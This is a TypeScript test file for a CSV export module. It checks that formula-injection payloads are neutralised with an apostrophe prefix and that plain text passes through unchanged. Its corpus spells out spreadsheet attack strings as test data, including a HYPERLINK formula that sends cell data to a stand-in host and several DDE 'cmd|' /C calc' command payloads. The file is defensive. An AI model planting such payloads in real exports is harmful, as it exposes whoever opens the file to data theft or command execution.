import { fc, test } from "@fast-check/vitest";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvLines } from "../../src/export/csv-lines.js";
import { neutralJson, neutralText } from "../../src/export/neutral-text.js";
import { wholeText } from "../support/table-rows.js";

/** What has been used against spreadsheets, each of which one of them takes for a formula, at its start or where it is cut. */
const corpus: Readonly<Record<string, string>> = {
  "=1+1": "'=1+1",
  '=HYPERLINK("https://evil.example?"&A1,"click")': "'=HYPERLINK",
  "=cmd|' /C calc'!A0": "'=cmd",
  "+cmd|' /C calc'!A0": "'+cmd",
  "-2+3+cmd|' /C calc'!A0": "'-2",
  "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
  "\t=1+1": "'\t'=1+1",
  "\r=1+1": "'\r'=1+1",
  "\n=1+1": "'\n'=1+1",
  "\tplain": "'\tplain",
  "  =1+1": "  '=1+1",
  "\u00a0=1+1": "\u00a0'=1+1",
  "\ufeff=1+1": "\ufeff'=1+1",
  "\u200b=1+1": "\u200b'=1+1",
  "＝1+1": "'＝1+1",
  "＋1": "'＋1",
  "－1": "'－1",
  "＠SUM(A1)": "'＠SUM(A1)",
  "Dupont;=1+1": "Dupont;'=1+1",
  "Dupont,=1+1": "Dupont,'=1+1",
  "Dupont\t=1+1": "Dupont\t'=1+1",
  "Dupont|=1+1": "Dupont|'=1+1",
  "Dupont\r\n=1+1": "Dupont\r\n'=1+1",
  "Dupont; \n\t=1+1": "Dupont; \n\t'=1+1",
  "+33 1 23 45 67 89": "'+33 1 23 45 67 89",
};
const plain = [
  "",
  "Ann Lee",
  "a=b",
  "ann@acme.example",
  "well-known",
  "1+1",
  "'=1+1",
  "2026-03-01",
  "a, b; c",
  "R&D - Paris",
];

/** How a spreadsheet that goes by another delimiter, and reads no quotes within a cell, cuts a text. */
const cellsOf = (text: string): string[] => text.split(/[,;|\t\r\n]/);
const isFormula = (cell: string): boolean => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell);

describe("REP-7 formulas in texts", () => {
  it.each(Object.entries(corpus))("REP-7 makes %j inert", (text, inert) => {
    expect(neutralText(text).startsWith(inert)).toBe(true);
    expect(cellsOf(neutralText(text)).filter(isFormula)).toEqual([]);
  });

  it.each(plain)("REP-7 leaves %j as it is", (text) => expect(neutralText(text)).toBe(text));

  test.prop([
    fc
      .array(fc.constantFrom(..."=+-@＝＋－＠,;|\t\r\n \u00a0'\"a1".split("")), { maxLength: 16 })
      .map((all) => all.join("")),
  ])("REP-7 leaves no cell that begins a formula, however the text is cut", (text) => {
    expect(cellsOf(neutralText(text)).filter(isFormula)).toEqual([]);
    expect(/^[\t\r\n]/.test(neutralText(text))).toBe(false);
    expect(neutralText(text).replaceAll("'", "")).toBe(text.replaceAll("'", ""));
  });

  test.prop([fc.jsonValue({ stringUnit: fc.constantFrom(...'=+-@,;| \\"a') })])(
    "REP-7 leaves JSON the same value, and no text in it that begins a formula where it is cut",
    (value) => {
      const json = neutralJson(JSON.stringify(value));
      expect(JSON.parse(json)).toEqual(JSON.parse(JSON.stringify(value)));
      const signs = cellsOf(json).slice(1).filter(isFormula);
      expect(signs.filter((cell) => !/^ *-\d/.test(cell))).toEqual([]); // a number is no formula
    },
  );

  it("REP-7 holds for headers, lists and JSON, and never for numbers and instants", async () => {
    const rows = [[-1, new Date(0), ["=a", "=b"], { note: "x;=1" }]];
    const text = await wholeText(csvLines({ header: ["=h", "b", "c", "d"], rows }));
    expect(parse(text)).toEqual([
      ["'=h", "b", "c", "d"],
      ["-1", "1970-01-01T00:00:00.000Z", "'=a, '=b", String.raw`{"note":"x;\u003d1"}`],
    ]);
    const kept = await wholeText(csvLines({ header: ["=h", "b", "c", "d"], rows }, { formulas: "kept" }));
    expect(parse(kept)[1]).toEqual(["-1", "1970-01-01T00:00:00.000Z", "=a, =b", '{"note":"x;=1"}']);
  });
});
